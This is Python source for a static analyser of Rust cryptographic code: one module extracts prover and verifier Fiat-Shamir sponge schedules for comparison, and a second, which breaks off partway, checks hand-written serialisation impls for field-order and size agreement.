