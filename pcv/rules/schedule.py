"""R7 SCHEDULE-AGREEMENT: prover and verifier perform the same sponge operations in the same structure.

The schedule of a function is extracted from the compiler's resolved HIR (which keeps loops, branches and
closures): sponge method calls become letters, local functions that receive the sponge are inlined (late-bound
`Self::` / `PC::` calls are dispatched to the scheme under analysis), loops and branches that contain no sponge
operation disappear. Absorbed operands and squeeze sizes are classified by provenance on the MIR (exact-flow):
which proof / commitment field or which parameter role the value is (or is stored into, on the prover side).
"""
from .. import tables as T
from ..flow import Graph, DATA, MOVE, OUTCOME
from ..engine import short
from . import exact as R11
from . import lenguard as LG
from .serde import children, strip, walk

SPONGE = T.SPONGE_TRAIT
PC = T.PC
MAX_DEPTH = 6


class Extractor:
    def __init__(self, ctx, ctx_adt, anchor_body, roles, proof_adts, commitment_adts, key_adts):
        self.ctx = ctx
        self.f = ctx.facts
        self.ctx_adt = ctx_adt
        self.anchor = anchor_body
        self.roles = {v: k for k, v in roles.items()}      # local index -> role
        self.proof_adts = set(proof_adts)
        self.commitment_adts = set(commitment_adts)
        self.key_adts = set(key_adts)
        scope = self.f.closure([anchor_body.id], ctx_adt)
        self.g = Graph(self.f, scope, [anchor_body.id], ctx_adt)
        self._span_index = {}
        for bid in scope:
            b = self.f.bodies[bid]
            for i, t in b.calls():
                self._span_index.setdefault((b.root, t.get("fn_span")), []).append((bid, i, t))
        self.ops = 0

    # ------------------------------------------------------------ MIR side: operand classification
    def mir_call(self, root, sp):
        lst = self._span_index.get((root, sp))
        return lst[0] if lst else None

    def classify_local(self, bid, local):
        g = self.g
        # inside a helper that is being inlined at one call site, a value that comes in through a parameter has the
        # class of the argument at that call site (not of the arguments at all call sites)
        env = self._penv[-1] if getattr(self, "_penv", None) else None
        stop = set(env) if env else None
        srcs, computed, seen = origins_enc(g, (bid, local), stop)
        out = set()
        if env:
            for n in seen:
                if n in env:
                    out.update(x for x in env[n].split("|") if x and x != "computed")
        for s in srcs:
            if s[0] == "FIELD":
                out.add(self.field_class(s[1], s[2]))
            elif s[0] == "CALLRES":
                t = self.f.bodies[s[1]].blocks[s[2]]["term"]
                out.add("call:" + (t.get("callee") or "?").rsplit("::", 1)[-1])
        for n in seen:
            if n[0] == self.anchor.id and n[1] in self.roles:
                out.add("param:" + norm_role(self.roles[n[1]]))
        # what the value is read from decides; only a value that is not read from the statement at all
        # (a fresh prover-side value) is classified by the proof field it is stored into
        for pref in ("proof.", "commitment.", "param:"):
            sel = sorted(x for x in out if x.startswith(pref))
            if sel:
                return "|".join(sel)
        fw = self.stored_into(bid, {n for n in seen if n[0] == bid}) or self.stored_into(bid, set(seen))
        if fw:
            return "|".join(sorted(fw))
        # an element handed out by an iterator (`for x in it`, or the parameter of a closure given to `map`) is not
        # told apart from a computed value: which of the two forms a loop takes is a matter of style
        out = {x for x in out if x not in ITEM_SOURCES}
        return "|".join(sorted(out)) or "computed"

    def _agg_index(self):
        if getattr(self, "_aggs", None) is None:
            idx = {}
            for b2 in self.g.scope:
                body = self.f.bodies[b2]
                for blk in body.blocks:
                    for st in blk["stmts"]:
                        rv = st["rv"]
                        if rv.get("k") == "agg" and rv.get("adt") in self.proof_adts:
                            for fld, op in zip(rv.get("fields", []), rv["ops"]):
                                if op["k"] in ("copy", "move"):
                                    idx.setdefault((b2, op["pl"]["l"]), []).append("proof." + fld)
            self._aggs = idx
        return self._aggs

    def stored_into(self, bid, starts):
        """proof fields the value is moved into, taking only the nearest struct literal(s)."""
        idx = self._agg_index()
        g = self.g

        def carrier(n):
            # the Result / ControlFlow plumbing of `?` mixes the value with the error path: not a place the value lives in
            ty = g.node_ty(n) or ""
            return ty.startswith(("std::result::Result<", "std::ops::ControlFlow<"))
        starts = {n for n in starts if not carrier(n)}
        level = set(starts)
        seen = set(starts)
        for _ in range(40):
            hits = set()
            for n in level:
                hits.update(idx.get(n, ()))
            if hits:
                return hits
            nxt = set()
            for n in level:
                for e in g.fwd.get(n, ()):
                    if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                        continue
                    if not (isinstance(e.dst, tuple) and len(e.dst) == 2 and isinstance(e.dst[1], int) and e.dst[1] >= 0):
                        continue
                    if carrier(e.dst):
                        continue
                    once = (e.op == "foreign" and e.cs is not None and e.cs[0] == "out" and
                            LG._callee_name(g, e) in ("then", "map", "and_then", "map_or", "map_or_else", "unwrap_or_else",
                                                      "or_else", "ok_or_else"))     # what a run-once closure returns
                    if once or e.op in (MOVE, "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                                         LG._callee_name(g, e) in R11.CARRIERS):
                        seen.add(e.dst)
                        nxt.add(e.dst)
            if not nxt:
                break
            level = nxt
        return set()

    def field_class(self, adt, name):
        if adt in self.proof_adts:
            return "proof." + name
        if adt in self.commitment_adts:
            return "commitment." + name
        if adt in self.key_adts:
            return "param:key"
        return "%s.%s" % (adt.rsplit("::", 1)[-1], name)

    # ------------------------------------------------------------ HIR side: structure
    def sponge_names(self, hir_fn):
        b = self.f.bodies.get(hir_fn["id"])
        names = set()
        if b is not None:
            for l in b.locals:
                if SPONGE in (l.get("bounds") or ()) and l.get("name"):
                    names.add(l["name"])
        return names

    def mentions_sponge(self, e, names):
        for n in walk(e):
            if n.get("k") == "path" and n.get("res") == "local" and n.get("name") in names:
                return True
        return False

    def schedule(self, hir_fn, depth=0, stack=()):
        names = self.sponge_names(hir_fn)
        return self._items(hir_fn["body"], hir_fn, names, depth, stack)

    def _items(self, e, fn, names, depth, stack):
        out = []
        if not isinstance(e, dict):
            return out
        k = e.get("k")
        if k == "mcall" and e.get("trait") == SPONGE:
            # operands first (evaluation order)
            for c in [e["recv"]] + e.get("args", []):
                out.extend(self._items(c, fn, names, depth, stack))
            out.append(self._letter(e, fn))
            self.ops += 1
            return out
        if k == "let" and isinstance(e.get("init"), dict) and e["init"].get("k") == "closure" \
                and isinstance(e.get("pat"), dict) and e["pat"].get("k") == "bind":
            # a closure bound to a local (`let mut next_challenge = || sponge.squeeze..`): its transcript operations
            # happen where it is called, not where it is written down
            lc = self.__dict__.setdefault("_lclos", {}).setdefault(fn["id"], {})
            lc[e["pat"]["name"]] = e["init"]
            return out
        if k == "call" and (e.get("res") == "local" or (isinstance(e.get("f"), dict) and e["f"].get("res") == "local")):
            lc = self.__dict__.get("_lclos", {}).get(fn["id"], {})
            clo = lc.get(e.get("name") if e.get("res") == "local" else e["f"].get("name"))
            if clo is not None:
                for c in e.get("args", []):
                    out.extend(self._items(c, fn, names, depth, stack))
                out.extend(self._items(clo["body"], fn, names, depth, stack))
                return out
        if k == "mcall" and (e.get("def") or "").startswith(ONCE_RECEIVERS):
            # `flag.then(|| ..)`, `opt.map(|x| ..)`, `res.and_then(..)`, `opt.unwrap_or_else(|| ..)`: the closure runs
            # at most once, depending on the receiver - a branch, not a loop
            out.extend(self._items(e["recv"], fn, names, depth, stack))
            for c in e.get("args", []):
                if isinstance(c, dict) and c.get("k") == "closure":
                    inner = self._items(c["body"], fn, names, depth, stack)
                    if inner:
                        out.append(("branch", self._guard(e["recv"], fn), tuple(inner)))
                else:
                    out.extend(self._items(c, fn, names, depth, stack))
            return out
        if k in ("call", "mcall"):
            for c in ([e["recv"]] if k == "mcall" else []) + ([e["f"]] if "f" in e else []) + e.get("args", []):
                out.extend(self._items(c, fn, names, depth, stack))
            args = ([e["recv"]] if k == "mcall" else []) + e.get("args", [])
            if any(self.mentions_sponge(a, names) for a in args):
                out.extend(self._call(e, fn, depth, stack))
            return out
        if k == "loop":
            inner = self._items(e["body"], fn, names, depth, stack)
            # `while cond { .. }` / `while let Some(x) = it.next() { .. }` desugar to `loop { if/match .. else break }`:
            # the single non-empty arm is the loop body, the test is the loop condition
            if len(inner) == 1 and inner[0][0] == "branch" and len(inner[0]) == 3 and self._is_while(e["body"]):
                inner = list(inner[0][2])
            return [("loop", inner)] if inner else []
        if k == "match" and e.get("src") == "for":
            # desugared for: the iterator expression, then the loop inside the single arm
            out.extend(self._items(e["scrut"], fn, names, depth, stack))
            elems = self._array_literal_elems(e, fn)
            if elems is not None:
                # `for x in [a, b, c] { .. }`: a fixed number of iterations, one per listed value - the same
                # transcript as the body written out once for each of them
                prev = getattr(self, "_iter_override", None)
                for cls in elems:
                    self._iter_override = cls
                    for a in e["arms"]:
                        for it in self._items(a["body"], fn, names, depth, stack):
                            out.extend(it[1] if it[0] == "loop" else [it])
                self._iter_override = prev
                return out
            for a in e["arms"]:
                out.extend(self._items(a["body"], fn, names, depth, stack))
            return out
        if k == "match" and e.get("src") in ("try", "await", "fmt"):
            return self._items(e["scrut"], fn, names, depth, stack)
        if k == "match":
            out.extend(self._items(e["scrut"], fn, names, depth, stack))
            arms = [self._items(a["body"], fn, names, depth, stack) for a in e["arms"]]
            if e.get("src") == "for" or not any(arms):
                return out
            out.append(("branch", self._guard(e["scrut"], fn)) + tuple(tuple(a) for a in arms if a))
            return out
        if k == "if":
            cond = e["cond"]
            out.extend(self._items(cond, fn, names, depth, stack))
            th = self._items(e["then"], fn, names, depth, stack)
            el = self._items(e["else"], fn, names, depth, stack) if "else" in e else []
            if th or el:
                out.append(("branch", self._guard(cond, fn)) + tuple(tuple(a) for a in (th, el) if a))
            return out
        if k == "closure":
            inner = self._items(e["body"], fn, names, depth, stack)
            return [("loop", inner)] if inner else []
        if k == "block":
            # a statement one arm of which leaves the function *normally* (`_ => return Ok(())`, `else { return; }`)
            # makes everything after it conditional on the other arms: the same transcript as an `if` around the rest
            parts = list(e.get("stmts", [])) + ([e["e"]] if "e" in e else [])
            for idx, st in enumerate(parts):
                cond = self._normal_exit_guard(st, fn)
                out.extend(self._items(st, fn, names, depth, stack))
                if cond is not None and idx + 1 < len(parts):
                    rest = self._items({"k": "block", "stmts": parts[idx + 1:]}, fn, names, depth, stack)
                    if rest:
                        out.append(("branch", cond, tuple(rest)))
                    return out
            return out
        for c in children(e):
            out.extend(self._items(c, fn, names, depth, stack))
        return out

    def _normal_exit_guard(self, st, fn):
        """the guard of the `if` / `match` in this statement when one of its arms returns normally (unit / `Ok(())`)
        and another falls through; None otherwise. Refusals (`?`, `return Err(..)`) and verdicts are not normal exits."""
        x = st
        if isinstance(x, dict) and x.get("k") in ("stmt", "let"):
            x = x.get("e") if x.get("k") == "stmt" else x.get("init")
        while isinstance(x, dict) and x.get("k") in ("block",) and not x.get("stmts") and "e" in x:
            x = x["e"]
        if not isinstance(x, dict) or x.get("k") not in ("if", "match") or x.get("src") in ("try", "for", "await", "fmt"):
            return None

        def exits(a):
            # the arm is (a block ending in) `return;` / `return Ok(())` / `return ()`
            while isinstance(a, dict) and a.get("k") == "block":
                ps = list(a.get("stmts", [])) + ([a["e"]] if "e" in a else [])
                if len(ps) != 1:
                    return False
                a = ps[0].get("e") if ps[0].get("k") == "stmt" else ps[0]
            if isinstance(a, dict) and a.get("k") == "continue":
                return True     # leaves the iteration: the rest of the loop body is conditional in the same way
            if not isinstance(a, dict) or a.get("k") != "ret":
                return False
            args = a.get("args") or []
            if not args:
                return True
            v = args[0]
            if v.get("k") == "tup" and not v.get("args"):
                return True
            if v.get("k") == "call" and (v.get("def") or (v.get("f") or {}).get("def") or "").endswith("Ok"):
                inner = (v.get("args") or [None])[0]
                return isinstance(inner, dict) and inner.get("k") == "tup" and not inner.get("args")
            return False
        arms = [x["then"]] + ([x["else"]] if "else" in x else []) if x["k"] == "if" else [a["body"] for a in x["arms"]]
        ex = [exits(a) for a in arms]
        if x["k"] == "if" and "else" not in x:
            ex.append(False)    # the implicit empty `else` falls through
        if any(ex) and not all(ex):
            return self._guard(x["cond"] if x["k"] == "if" else x["scrut"], fn)
        return None

    def _array_literal_elems(self, e, fn):
        """classes of the elements when the `for` iterates over an array literal of plain local variables."""
        sc = e.get("scrut")
        if not (isinstance(sc, dict) and sc.get("k") == "call" and (sc.get("def") or "").endswith("IntoIterator::into_iter")):
            return None
        args = sc.get("args") or []
        if len(args) != 1 or not isinstance(args[0], dict) or args[0].get("k") != "array":
            return None
        b = self.f.bodies.get(fn["id"])
        if b is None:
            return None
        out = []
        for x in args[0].get("args", []):
            while isinstance(x, dict) and x.get("k") in ("addrof", "deref") and len(x.get("args", [])) == 1:
                x = x["args"][0]
            if not (isinstance(x, dict) and x.get("k") == "path" and x.get("res") == "local"):
                return None
            ls = [l for l, loc in enumerate(b.locals) if loc.get("name") == x["name"]]
            if len(ls) != 1:
                return None
            out.append(self.classify_local(b.id, ls[0]))
        return out or None

    @staticmethod
    def _is_while(body):
        """the loop body is a single `if` / `match` one arm of which is just `break` (a desugared while / while let)."""
        e = body
        while isinstance(e, dict) and e.get("k") == "block":
            items = list(e.get("stmts", [])) + ([e["e"]] if "e" in e else [])
            if len(items) != 1:
                return False
            e = items[0]
            if isinstance(e, dict) and e.get("k") == "stmt":
                e = e.get("e")
        if not isinstance(e, dict):
            return False

        def only_break(x):
            while isinstance(x, dict) and x.get("k") == "block":
                items = list(x.get("stmts", [])) + ([x["e"]] if "e" in x else [])
                if len(items) != 1:
                    return False
                x = items[0]
                if isinstance(x, dict) and x.get("k") == "stmt":
                    x = x.get("e")
            return isinstance(x, dict) and x.get("k") == "break"
        if e.get("k") == "if":
            return "else" in e and only_break(e["else"])
        if e.get("k") == "match":
            # the `match it.next()` of a desugared `for` yields no branch of its own: a branch found in a for body
            # belongs to the body
            return e.get("src") != "for" and any(only_break(a["body"]) for a in e.get("arms", []))
        return False

    def _guard(self, cond, fn):
        """names of the resolved methods / fields the guard is computed from (let-bound locals expanded once)."""
        binds = getattr(fn, "_binds", None)
        if binds is None:
            binds = {}
            for n in walk(fn["body"]):
                if n.get("k") == "let" and "init" in n:
                    for nm in pat_names(n["pat"]):
                        binds.setdefault(nm, n["init"])
            try:
                fn["_binds"] = binds
            except TypeError:
                pass
        names = set()
        front = [cond]
        seen = set()
        depth = 0
        while front and depth < 3:
            nxt = []
            for ex in front:
                for n in walk(ex):
                    kk = n.get("k")
                    if kk == "mcall":
                        names.add(n["m"])
                    elif kk == "field":
                        names.add(n["name"])
                    elif kk == "call" and n.get("def"):
                        names.add(n["def"].rsplit("::", 1)[-1])
                    elif kk == "path" and n.get("res") == "local" and n["name"] in binds and n["name"] not in seen:
                        seen.add(n["name"])
                        nxt.append(binds[n["name"]])
            front = nxt
            depth += 1
        # what the guard is about, not how it is spelled: `if let Some(d) = degree_bound`, `match (degree_bound,
        # shifted_comm)` and a helper that zips the two are the same test
        fam = set()
        for nm in names:
            if "degree_bound" in nm or "shifted" in nm:
                fam.add("degree-bound")
            elif "hiding" in nm:
                fam.add("hiding")
            elif "well_formedness" in nm:
                fam.add("well-formedness")
        return tuple(sorted(fam))

    def _letter(self, e, fn):
        m = e["m"]
        mc = self.mir_call(fn.get("root") or fn["id"], e.get("sp"))
        if m == "absorb":
            cls = "?"
            if mc is not None:
                bid, i, t = mc
                a = t["args"][1] if len(t["args"]) > 1 else None
                if a and a["k"] in ("copy", "move"):
                    cls = self.classify_local(bid, a["pl"]["l"])
            if getattr(self, "_iter_override", None) and cls in ("computed", "?"):
                cls = self._iter_override
            return ("absorb", cls)
        size = "?"
        args = e.get("args", [])
        if args:
            texts = set()
            for n in walk(args[0]):
                if n.get("k") == "path" and n.get("res") == "def":
                    texts.add(n["def"].rsplit("::", 1)[-1])
                elif n.get("k") == "lit":
                    texts.add(n["v"])
            if texts:
                size = "|".join(sorted(texts))
            elif mc is not None:
                bid, i, t = mc
                a = t["args"][1] if len(t["args"]) > 1 else None
                if a and a["k"] in ("copy", "move"):
                    size = self.classify_local(bid, a["pl"]["l"])
        return ("squeeze", m, size)

    def _call(self, e, fn, depth, stack):
        """a call that hands the sponge on: inline the callee's schedule, or an abstract letter."""
        d = e.get("def")
        tr = e.get("trait")
        name = (d or "").rsplit("::", 1)[-1]
        if d and d.startswith(("std::", "core::", "alloc::")) and not (tr in self.f.traits):
            return []     # `?`, push, Some(..): carriers, their operands were walked already
        target = None
        if d in self.f.hir:
            target = self.f.hir[d]
        # late-bound call on a local trait: dispatch to the scheme under analysis
        if (tr in self.f.traits or (d and d.rsplit("::", 1)[0] in self.f.traits)):
            trait = tr or d.rsplit("::", 1)[0]
            if self.ctx_adt is not None:
                bid = self.f.impl_method(trait, self.ctx_adt, name)
                if bid and bid in self.f.hir:
                    target = self.f.hir[bid]
            if target is None and d in self.f.hir:
                target = self.f.hir[d]
        # resolved impl method (concrete receiver)
        if target is None and d:
            mc = self.mir_call(fn.get("root") or fn["id"], e.get("sp"))
            if mc is not None:
                for tb in self.f.call_targets(mc[2], self.ctx_adt):
                    if tb in self.f.hir:
                        target = self.f.hir[tb]
                        break
        if target is None:
            if name in ("open", "check"):
                return [("sub", "SINGLE")]
            if name in ("batch_open", "batch_check"):
                return [("sub", "BATCH")]
            if name in ("open_combinations", "check_combinations"):
                return [("sub", "COMB")]
            return [("sub", "unknown:" + name)]
        if depth >= MAX_DEPTH or target["id"] in stack:
            return [("sub", "rec:" + name)]
        # classes of the arguments at this call site, bound to the callee's parameters
        env = {}
        mc2 = self.mir_call(fn.get("root") or fn["id"], e.get("sp"))
        tb = self.f.bodies.get(target["id"])
        if mc2 is not None and tb is not None:
            cb, ci, ct = mc2
            for j, a in enumerate(ct["args"]):
                if j + 1 <= tb.arg_count and a["k"] in ("copy", "move"):
                    env[(tb.id, j + 1)] = self.classify_local(cb, a["pl"]["l"])
        if not hasattr(self, "_penv"):
            self._penv = []
        self._penv.append(env)
        try:
            return self.schedule(target, depth + 1, stack + (target["id"],))
        finally:
            self._penv.pop()


ONCE_RECEIVERS = ("std::option::Option", "core::option::Option", "std::result::Result", "core::result::Result",
                  "core::bool::", "std::bool::", "core::bool::<impl bool>")


ITEM_SOURCES = {"call:" + n for n in ("next", "next_back", "into_iter", "iter", "iter_mut", "zip", "enumerate", "rev", "map",
                                        "filter", "filter_map", "skip", "take", "chain", "peekable", "cloned", "copied",
                                        "into_par_iter", "par_iter", "values", "keys", "into_values", "into_keys", "drain")}


def pat_names(p, out=None):
    out = [] if out is None else out
    if not isinstance(p, dict):
        return out
    if p.get("k") == "bind":
        out.append(p["name"])
        if "sub" in p:
            pat_names(p["sub"], out)
    for q in p.get("pats", []) or []:
        pat_names(q, out)
    for f in p.get("fields", []) or []:
        pat_names(f[1], out)
    return out


def norm_role(r):
    return {"ck": "key", "vk": "key", "commitments": "commitment", "query_set": "point", "polys": "poly",
            "states": "state"}.get(r, r)


def origins_enc(g, node, stop=None):
    """exact-flow origins where serialising a value into a byte buffer counts as carrying it. `stop`: nodes at which
    the walk ends (the parameters of a helper that is being inlined at one particular call site)."""
    from collections import deque
    rev = LG._rev(g)
    seen = {node}
    dq = deque([node])
    sources = set()
    computed = []
    from ..flow import ALIAS
    while dq and len(seen) < 3000:
        n = dq.popleft()
        if stop and n in stop:
            continue
        for (a, e) in rev.get(n, ()):
            if e.kind == ALIAS and e.op == MOVE and e.cs is None and isinstance(a, tuple) and len(a) == 2:
                # a = &mut n: what is written through the reference ends up in n
                if a not in seen:
                    seen.add(a)
                    dq.append(a)
                continue
            if e.kind != DATA:
                continue
            if isinstance(a, tuple) and a[0] == "CALLRES":
                t = g.facts.bodies[a[1]].blocks[a[2]]["term"]
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if t.get("callee_trait") == "ark_serialize::CanonicalSerialize":
                    continue      # the Result<()> of serialising: carries nothing
                if nm in R11.CARRIERS or nm in ("new", "with_capacity", "to_vec", "as_slice", "concat") or _wrapper_map(t, nm) or g.facts.call_targets(t, g.ctx_adt):
                    continue
                sources.add(a)
                continue
            if isinstance(a, tuple) and a[0] == "FIELD":
                if not a[1].startswith(("std::", "core::", "alloc::")):
                    named = [ce for ce in (e.chain or ()) if len(ce) > 3 and ce[2] and not ce[2].startswith(("std::", "core::", "alloc::"))]
                    if not named[1:]:
                        sources.add(a)
                continue
            if any(len(ce) > 3 and ce[2] and not ce[2].startswith(("std::", "core::", "alloc::")) for ce in (e.chain or ())):
                continue
            if e.cs is not None and e.cs[0] == "out" and e.site is not None and isinstance(e.site, tuple) and e.site[0] in g.facts.bodies:
                t = g.facts.bodies[e.site[0]].blocks[e.site[1]]["term"]
                if t.get("callee_trait") in g.facts.traits and not t.get("resolved"):
                    # late-bound method of a crate trait (L::point_to_vec, vk.sec_param()): abstract, follow its inputs
                    for x in t["args"]:
                        if x["k"] in ("copy", "move"):
                            nn = (e.site[0], x["pl"]["l"])
                            if nn not in seen:
                                seen.add(nn)
                                dq.append(nn)
                    continue
            ok = e.op in (MOVE, "field", "hof")
            if not ok and e.op == "foreign" and e.site is not None:
                t = g.facts.bodies[e.site[0]].blocks[e.site[1]]["term"]
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if t.get("callee_trait") == "ark_serialize::CanonicalSerialize":
                    ok = True          # the buffer holds an encoding of the serialised value
                elif LG._is_result_edge(g, e) and (nm in R11.CARRIERS or nm in ("to_vec", "as_slice", "deref", "as_ref") or _wrapper_map(t, nm)):
                    ok = True
            if not ok:
                if e.op in ("compute", "foreign"):
                    computed.append(a)
                continue
            if a not in seen and isinstance(a, tuple) and len(a) == 2:
                seen.add(a)
                dq.append(a)
    return sources, computed, seen


def _wrapper_map(t, nm):
    """Result::map / Option::map / and / and_then: the payload of the wrapper is carried by the closure's result."""
    if nm not in ("map", "and_then", "and", "map_or", "ok"):
        return False
    tys = t.get("arg_tys") or []
    return bool(tys) and tys[0].lstrip("&").startswith(("std::result::Result<", "std::option::Option<"))


def forward_exact(g, starts, limit=2000):
    from collections import deque
    seen = set(starts)
    dq = deque(starts)
    while dq and len(seen) < limit:
        n = dq.popleft()
        for e in g.fwd.get(n, ()):
            if e.kind != DATA or e.dst == OUTCOME or e.dst in seen:
                continue
            if not (isinstance(e.dst, tuple) and len(e.dst) == 2 and isinstance(e.dst[1], int) and e.dst[1] >= 0):
                continue
            if e.op in (MOVE, "hof") or (e.op == "foreign" and LG._is_result_edge(g, e) and
                                         LG._callee_name(g, e) in R11.CARRIERS):
                seen.add(e.dst)
                dq.append(e.dst)
    return seen


def fmt(items, ind=0):
    lines = []
    for it in items:
        if it[0] == "loop":
            lines.append(" " * ind + "loop {")
            lines.extend(fmt(it[1], ind + 2))
            lines.append(" " * ind + "}")
        elif it[0] == "branch":
            lines.append(" " * ind + "branch %s {" % (",".join(it[1]) or "?"))
            for arm in it[2:]:
                lines.extend(fmt(arm, ind + 2))
                lines.append(" " * ind + "} / {")
            lines[-1] = " " * ind + "}"
        else:
            lines.append(" " * ind + " ".join(str(x) for x in it))
    return lines


def normalise(items):
    """canonical form for comparison: tuples all the way down."""
    out = []
    for it in items:
        if it[0] == "loop":
            inner = normalise(it[1])
            # a loop whose only content is another loop is one iteration space
            while len(inner) == 1 and inner[0][0] == "loop":
                inner = inner[0][1]
            out.append(("loop", inner))
        elif it[0] == "branch":
            out.append(("branch", it[1]) + tuple(normalise(a) for a in it[2:]))
        else:
            out.append(tuple(it))
    return tuple(out)
