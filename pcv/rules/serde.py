"""R8 SERDE-AGREEMENT for hand-written CanonicalSerialize / CanonicalDeserialize impls, on the resolved HIR.

(i)   the sequence of fields written by serialize_with_mode (receiver of the k-th `serialize_with_mode` call is `self.f`);
(ii)  the field each k-th `deserialize_with_mode` result ends up in (struct literal of the result);
(iii) the set of fields summed in serialized_size;
(iv)  for fields that are rebuilt rather than read (prepared_*), the read field they are computed from.
Oracle: (i) == (ii) as sequences with equal field types; (iii) == set(i); (iv) prepared_X is computed from X; every
read's error is propagated with `?`.
"""
SER = "ark_serialize::CanonicalSerialize"
DE = "ark_serialize::CanonicalDeserialize"

CHILD_KEYS = ("recv", "f", "args", "cond", "then", "else", "scrut", "init", "e", "body", "base")


def children(n):
    """child expression nodes in evaluation order."""
    if not isinstance(n, dict):
        return
    k = n.get("k")
    if k == "block":
        for st in n.get("stmts", []):
            yield st
        if "e" in n:
            yield n["e"]
        return
    if k in ("let", "stmt"):
        for key in ("init", "e", "els"):
            if key in n:
                yield n[key]
        return
    if k == "match":
        yield n["scrut"]
        for a in n["arms"]:
            if "guard" in a:
                yield a["guard"]
            yield a["body"]
        return
    if k == "struct":
        for nm, ex in n.get("fields", []):
            yield ex
        if "base" in n:
            yield n["base"]
        return
    for key in CHILD_KEYS:
        v = n.get(key)
        if isinstance(v, dict):
            yield v
        elif isinstance(v, list):
            for x in v:
                if isinstance(x, dict):
                    yield x


def walk(n):
    st = [n]
    # pre-order, evaluation order
    out = []

    def rec(x):
        out.append(x)
        for c in children(x):
            rec(c)
    rec(n)
    return out


def strip(e):
    """strip & / deref / try wrappers."""
    while isinstance(e, dict):
        k = e.get("k")
        if k == "addrof" or (k == "unary" and e.get("op") == "Deref") or k == "cast":
            e = e["args"][0]
        elif k == "match" and e.get("src") == "try":
            e = e["scrut"]
        elif k == "call" and e.get("def", "").endswith("Try::branch"):
            e = e["args"][0]
        elif k == "block" and not e.get("stmts") and "e" in e:
            e = e["e"]
        elif k == "mcall" and e.get("m") in ("clone", "into", "as_ref", "iter", "to_vec", "to_owned", "borrow"):
            e = e["recv"]
        else:
            break
    return e


def self_field(e):
    e = strip(e)
    if isinstance(e, dict) and e.get("k") == "field":
        base = strip(e["args"][0])
        if base.get("k") == "path" and base.get("res") == "local" and base.get("name") == "self":
            return e["name"]
    return None


def locals_in(e):
    return [x["name"] for x in walk(e) if x.get("k") == "path" and x.get("res") == "local"]


def is_tried(e):
    """expression is `<..>?` (a Try desugaring)."""
    return isinstance(e, dict) and e.get("k") == "match" and e.get("src") == "try"


def analyse_family(facts, adt):
    """returns dict with ser / size / de tables for the hand-written impls of `adt`, or None if derived."""
    ser = size = de = None
    for h in facts.hir.values():
        if h.get("impl_self_adt") != adt:
            continue
        if h.get("impl_trait") == SER and h["name"] == "serialize_with_mode":
            ser = h
        elif h.get("impl_trait") == SER and h["name"] == "serialized_size":
            size = h
        elif h.get("impl_trait") == DE and h["name"] == "deserialize_with_mode":
            de = h
    return ser, size, de


def written_fields(h):
    out = []
    for n in walk(h["body"]):
        if n.get("k") == "mcall" and n.get("m") == "serialize_with_mode":
            out.append((self_field(n["recv"]), n))
    return out


def sized_fields(h):
    out = []
    for n in walk(h["body"]):
        if n.get("k") == "mcall" and n.get("m") == "serialized_size":
            out.append(self_field(n["recv"]))
    return out


def read_plan(h):
    """(reads, literal, untried): reads = [(binding name, call node)] in order; literal = {field: expr} of the struct
    literal that builds the result; untried = reads whose error is not propagated with `?`."""
    reads = []
    untried = []
    binds = {}
    literal = None
    for n in walk(h["body"]):
        if n.get("k") == "let" and "init" in n:
            pat = n["pat"]
            nm = pat.get("name") if pat.get("k") == "bind" else None
            init = n["init"]
            core = strip(init)
            if core.get("k") in ("call", "mcall") and ((core.get("def") or "").endswith("deserialize_with_mode") or core.get("m") == "deserialize_with_mode"):
                reads.append((nm, core))
                if not is_tried(init):
                    untried.append(nm)
            elif nm:
                binds[nm] = init
        if n.get("k") == "struct" and literal is None and (n.get("res") in ("selfctor", "def", "other") or True):
            if n.get("fields") and (n.get("ty") or "").split("<")[0] == (h.get("impl_self_adt") or "") or n.get("res") == "other":
                literal = {nm: ex for nm, ex in n["fields"]}
    return reads, literal, untried, binds


def check_family(facts, adt):
    """returns list of (ok, key suffix, detail)."""
    res = []
    a = facts.adts.get(adt)
    ser, size, de = analyse_family(facts, adt)
    if a is None or ser is None or size is None or de is None:
        return [(False, "impls", "hand-written CanonicalSerialize / CanonicalDeserialize impls of %s not found "
                 "(ser=%s size=%s de=%s): fail closed" % (adt, bool(ser), bool(size), bool(de)))]
    ftypes = {fd["name"]: fd["ty"] for fd in a["variants"][0]["fields"]}
    W = [f for f, _ in written_fields(ser)]
    if None in W or not W:
        res.append((False, "write-shape", "serialize_with_mode of %s writes something that is not a field of self" % adt))
        return res
    Z = sized_fields(size)
    reads, literal, untried, binds = read_plan(de)
    if literal is None:
        res.append((False, "read-shape", "deserialize_with_mode of %s has no struct literal building the result" % adt))
        return res
    rnames = [nm for nm, _ in reads]
    # (ii) field each read ends up in
    inv = {}
    wrapped = set()
    for fld, ex in literal.items():
        e2 = ex
        # a read may be moved into its field directly or through a plain wrapper constructor (Cow::Owned(x))
        if e2.get("k") == "call" and str(e2.get("dk", "")).startswith("Ctor") and len(e2.get("args", [])) == 1:
            e2 = e2["args"][0]
            wrapped.add(fld)
        if e2.get("k") == "path" and e2.get("res") == "local" and e2["name"] in rnames:
            inv.setdefault(e2["name"], []).append(fld)
    R = []
    for nm in rnames:
        tgt = inv.get(nm, [])
        R.append(tgt[0] if len(tgt) == 1 else None)
    ok = (R == W)
    res.append((ok, "order", "writes %s; reads land in %s" % (W, R) if not ok else
                "the %d fields are written and read back in the same order: %s" % (len(W), ", ".join(W))))
    # types of the reads
    bad_ty = []
    for (nm, call), fld in zip(reads, R):
        if fld is None or fld in wrapped:
            continue
        rty = call.get("ty") or ""
        # Result<T, SerializationError>
        inner = rty[len("std::result::Result<"):].rsplit(", ", 1)[0] if rty.startswith("std::result::Result<") else rty
        if inner != ftypes.get(fld):
            bad_ty.append((fld, inner, ftypes.get(fld)))
    res.append((not bad_ty, "types", "every read has the type of the field it fills" if not bad_ty else
                "read for field %s has type %s but the field is %s" % bad_ty[0]))
    # (iii)
    okz = sorted(Z) == sorted(W) and None not in Z
    res.append((okz, "size", "serialized_size sums exactly the written fields" if okz else
                "serialized_size sums %s but serialize_with_mode writes %s" % (sorted(x or "?" for x in Z), sorted(W))))
    # (iv) rebuilt fields
    rebuilt = [f for f in ftypes if f not in W]
    bad = []
    for f in rebuilt:
        ex = literal.get(f)
        if ex is None:
            bad.append((f, "is not set in the struct literal"))
            continue
        src = set()
        frontier = locals_in(ex)
        seen = set()
        while frontier:
            x = frontier.pop()
            if x in seen:
                continue
            seen.add(x)
